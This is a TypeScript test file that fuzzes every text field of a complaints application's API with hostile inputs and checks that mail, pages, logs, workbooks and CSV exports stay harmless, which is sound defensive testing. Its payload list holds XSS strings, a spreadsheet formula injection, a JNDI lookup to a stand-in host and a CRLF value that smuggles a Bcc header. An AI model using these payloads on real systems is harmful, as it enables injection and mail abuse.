import { strFromU8, unzipSync } from "fflate";
import { beforeAll, describe, expect, test } from "vitest";
import { buildMime } from "../../../lib/adapters/mail-out/mime.ts";
import { noticeRenderer } from "../../../lib/adapters/messages/index.ts";
import { buildMonthlyWorkbook } from "../../../lib/adapters/workbook/index.ts";
import { trackingUrl } from "../../../lib/app/complaints/tracking.ts";
import type { OutgoingMail } from "../../../lib/app/ports/messages.ts";
import { buildReportPart } from "../../../lib/app/reports/run/build.ts";
import type { Complaint } from "../../../lib/domain/complaint/document.ts";
import { shapeOf } from "../../support/bodies.ts";
import { at } from "../../support/builders.ts";
import type { Answered } from "../../support/http.ts";
import { people } from "../../support/organisation.ts";
import { withText, wordFields } from "./fuzz/fields.ts";
import { type Standing, standing } from "./fuzz/standing.ts";
import { carriedOut, type Request, requests, sendBy } from "./fuzz/ways.ts";
import { apis, as } from "./support.ts";

/*
 * Every field of every body that takes words, found in the schemas: what somebody hostile writes there is followed to mail,
 * page, form, workbook, CSV and log. A new field is covered as soon as its schema has it.
 */

const parts = [
  `=HYPERLINK("http://e.e","MARK")`,
  "<script>MARK</script>",
  "<img src=x onerror=MARK>",
  `'"--MARK`,
  "${jndi:ldap://e.e/MARK}",
  "\u202EMARK\u200B\u2066",
  "MARK\r\nBcc: all@e.e\r\n\r\nMARK",
] as const;
/** All at once where they fit, else one by one; and a page that nobody reads. */
const whole = [parts.join(""), parts.slice(0, -1).join("")];
const long = "MARK".repeat(2500);

let desk: Standing;
beforeAll(async () => {
  desk = await standing();
  // Handlers and queues have their ports each.
  for (const ports of [desk.api.ports, desk.api.here.ports])
    Object.assign(ports, { renderer: noticeRenderer });
});

/** Complaints that hostile words were written into. */
const left: Complaint[] = [];
const reached = new Set<string>();
const unreached = new Set<string>();

function expectHarmlessHtml(html: string): void {
  expect(html).not.toMatch(/<script>MARK|<img src=x/);
  expect(html).not.toMatch(/<[^>]*\sonerror=/);
  expect(html).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
}

function mimeOf(mail: OutgoingMail): Promise<Buffer> {
  return buildMime("接诉 <desk@desk.example>", mail);
}

async function expectHarmlessTraces(since: { readonly mails: number; readonly logs: number }) {
  const { here, logged } = desk.api;
  for (const mail of here.sent.slice(since.mails)) {
    expectHarmlessHtml(mail.html);
    expect(mail.subject).not.toMatch(/[\r\n\u202A-\u202E\u2066-\u2069\u200B]/);
    const raw = (await mimeOf(mail)).toString("latin1");
    expect(raw.split("\r\n\r\n")[0]).not.toMatch(/^Bcc:|^(?:To|From|Cc):.*e\.e/im);
  }
  // Logs name numbers and ids: nothing that somebody wrote.
  expect(JSON.stringify(logged.slice(since.logs))).not.toContain("MARK");
  expect(JSON.stringify([here.telemetry.lines, here.telemetry.errors])).not.toContain("MARK");
}

/** What a file should not have: a formula, field or link that somebody wrote, marks that turn text round; zips are opened, however deep. */
function faultsIn(name: string, bytes: Uint8Array): string[] {
  if (bytes[0] === 0x50 && bytes[1] === 0x4b)
    return Object.entries(unzipSync(bytes)).flatMap(([part, content]) =>
      faultsIn(`${name}!${part}`, content),
    );
  if (!/\.(?:xml|rels|csv)$/.test(name)) return [];
  const text = strFromU8(bytes);
  const found = name.endsWith(".csv")
    ? [...text.matchAll(/"((?:[^"]|"")*)"/g)].flatMap(
        ([, cell = ""]) => /^[=+@\t\r-].*MARK/s.exec(cell) ?? [],
      )
    : [...text.matchAll(inOffice)].flat();
  return found.map((one) => `${name}: ${one}`);
}
const inOffice =
  /<f>[^<]*(?:MARK|HYPERLINK)|<w:instrText[^>]*>[^<]*MARK|Target="[^"]*e\.e|<script>MARK|<img src=x|[\u202A-\u202E\u2066-\u2069]/g;

function expectJson({ headers, status }: Answered): void {
  expect(status).toBeLessThan(500);
  expect(headers["content-type"]).toMatch(/json|text\/html/);
  expect(headers["x-content-type-options"]).toBe("nosniff");
}

/** Writes into each field of the request that can be written to; how many fields it looked at. */
async function follow(request: Request, name: string): Promise<number> {
  const fields = wordFields(shapeOf(request.schema));
  for (const field of fields) {
    const place = `${name} ${field.join(".")}`;
    const found = await carriedOut(desk, request, field);
    if (found === undefined) {
      unreached.add(place);
      continue;
    }
    const write = async (text: string) => {
      const body = withText(found.body, field, text);
      if (!request.schema.safeParse(body).success) return false;
      const since = { mails: desk.api.here.sent.length, logs: desk.api.logged.length };
      const answer = await sendBy(desk, request, found.way, body);
      expectJson(answer);
      await expectHarmlessTraces(since);
      const { stands } = found.way;
      if (answer.status >= 400 || stands === undefined || text === long) return answer.status < 400;
      const number = `H${left.length + 1}`;
      const now = await desk.api.complaint(stands.registration.id);
      left.push({ ...now, registration: { ...now.registration, id: number, number } });
      return true;
    };
    let isTaken = (await write(whole[0]!)) || (await write(whole[1]!));
    if (!isTaken) for (const part of parts) isTaken = (await write(part)) || isTaken;
    await write(long);
    if (isTaken) reached.add(place);
  }
  return fields.length;
}

describe("hostile words in any field of any body", () => {
  test.each(requests.map((request) => [`${request.route.method} ${request.path}`, request] as const))(
    "%s",
    async (name, request) => {
      expect(await follow(request, name)).toBe(wordFields(shapeOf(request.schema)).length);
    },
  );

  test("every text of a command on a complaint was written, but for those that need more than the schema says", () => {
    expect(reached.size).toBeGreaterThan(150);
    const missed = [...unreached].filter((place) => place.includes("/complaints/{id}/commands/"));
    const namesSomething = /(?:attachments\.\[\]|[iI]ds?(?:\.\[\])?|key|rung|sheet\.code)$/;
    const command = (place: string) => place.replace("POST /complaints/{id}/commands/", "");
    expect(missed.filter((place) => !namesSomething.test(place)).map(command)).toEqual([
      "form-team text",
      "plan nodes.[].text",
      "close reason",
      "extend reason",
      "return-ticket text",
      "object-to-dispatch text",
      "record-extension text",
    ]);
  });

  test("are text in pages, forms, workbooks and CSV", async () => {
    expect(left.length).toBeGreaterThan(60);
    const api = apis();
    for (const ports of [api.ports, api.here.ports]) Object.assign(ports, { workbook: buildMonthlyWorkbook });
    for (const complaint of left) api.complaints.items.set(complaint.registration.id, complaint);
    for (const complaint of left) {
      const { pathname, searchParams } = new URL(trackingUrl(api.ports, complaint));
      const query = Object.fromEntries(searchParams);
      const page = await api.open(`GET ${pathname}`, { headers: { accept: "text/html" }, query });
      expect(page.status).toBe(200);
      expectHarmlessHtml(page.text);
      const dossier = await api.reports(`POST /complaints/${complaint.registration.id}/dossier`, {
        headers: as(people.manager),
      });
      expect(dossier.status).toBe(201);
    }
    api.here.clock.set(at("2026-03-02 10:00"));
    const build = await api.reports("POST /reports/2026-02/build", {
      headers: { ...as(people.headquarters), "idempotency-key": "month" },
      body: {},
    });
    expect(build.status).toBe(202);
    for (let some = api.here.reportQueue.take(); some.length > 0; some = api.here.reportQueue.take())
      for (const part of some) await buildReportPart(api.here.ports, part);
    const files = [...api.here.reportFiles.items, ...api.here.attachments.items];
    expect(files.flatMap(([key, { body }]) => faultsIn(key, body))).toEqual([]);
    for (const kind of [".xlsx", ".csv", ".docx", ".zip"])
      expect([kind, files.filter(([key]) => key.endsWith(kind)).length > 0]).toEqual([kind, true]);
  });
});
